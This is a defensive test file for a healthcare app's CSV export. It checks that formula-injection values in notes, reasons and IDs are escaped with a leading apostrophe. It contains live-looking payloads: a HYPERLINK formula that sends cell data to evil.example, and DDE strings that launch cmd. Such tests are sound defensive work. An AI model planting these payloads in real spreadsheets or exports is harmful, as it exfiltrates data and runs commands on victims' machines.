/**
 * CSV formula injection (issue 21, OWASP): an external id, a decision note and a return reason that
 * a spreadsheet would run as a formula come out of the HTTP export with a leading `'`; scores stay
 * numbers.
 */
import { randomUUID } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestServer, invite, type TestServer } from './helpers.js';

let server: TestServer;
afterAll(() => server.close());
beforeAll(async () => {
  server = await createTestServer();
}, 60_000);

const NOTE = '=HYPERLINK("https://evil.example/?"&A1,"Click")';
const REASON = `@SUM(1+1)*cmd|' /C calc'!A0`;
const NOTE_PLUS = '+cmd|" /C calc"!A0';

async function answered(externalId: string, answers: Record<string, unknown>) {
  const { token } = await invite(server, 'minimal', { externalId, name: 'Patient' });
  const { body } = await server.request.post(`/api/invitations/${token}/responses`).send({ id: randomUUID(), answers }).expect(201);
  const flag = await server.db.selectFrom('flags').select('id').where('response_id', '=', body.responseId).executeTakeFirstOrThrow();
  return { responseId: body.responseId as string, flagId: flag.id };
}

describe('GET /api/export/responses.csv', () => {
  it('writes no cell a spreadsheet runs as a formula, and keeps the scores numbers', async () => {
    const nurse = await server.as('nurse');
    const a = await answered('-12-3', { pain: 2 });
    await nurse.post(`/api/flags/${a.flagId}/decision`).send({ action: 'no_action', note: NOTE }).expect(200);
    const b = await answered(`ext-${randomUUID()}`, { pain: 4, worry: 4 });
    await nurse.post(`/api/flags/${b.flagId}/decision`).send({ action: 'refer', note: NOTE_PLUS }).expect(200);
    const referral = await server.db.selectFrom('referrals').select('id').where('flag_id', '=', b.flagId).executeTakeFirstOrThrow();
    await (await server.as('palliative_team')).post(`/api/referrals/${referral.id}/decision`).send({ action: 'return', reason: REASON }).expect(200);

    const day = server.clock.now().toISOString().slice(0, 10);
    const res = await nurse.get('/api/export/responses.csv').query({ from: day, to: day }).expect(200);
    const rows = parse(res.text, { columns: true }) as Record<string, string>[];
    const rowA = rows.find((r) => r.response_id === a.responseId)!;
    const rowB = rows.find((r) => r.response_id === b.responseId)!;
    expect(rowA).toMatchObject({ patient_external_id: "'-12-3", decision_note: `'${NOTE}` });
    expect(rowB).toMatchObject({ decision_note: `'${NOTE_PLUS}`, referral_outcome: 'returned', referral_reason: `'${REASON}`, score_pa: '100', score_wo: '100' });
    expect(Number(rowA.score_pa)).toBeCloseTo(100 / 3, 12);
    // No cell of any row starts a formula.
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});
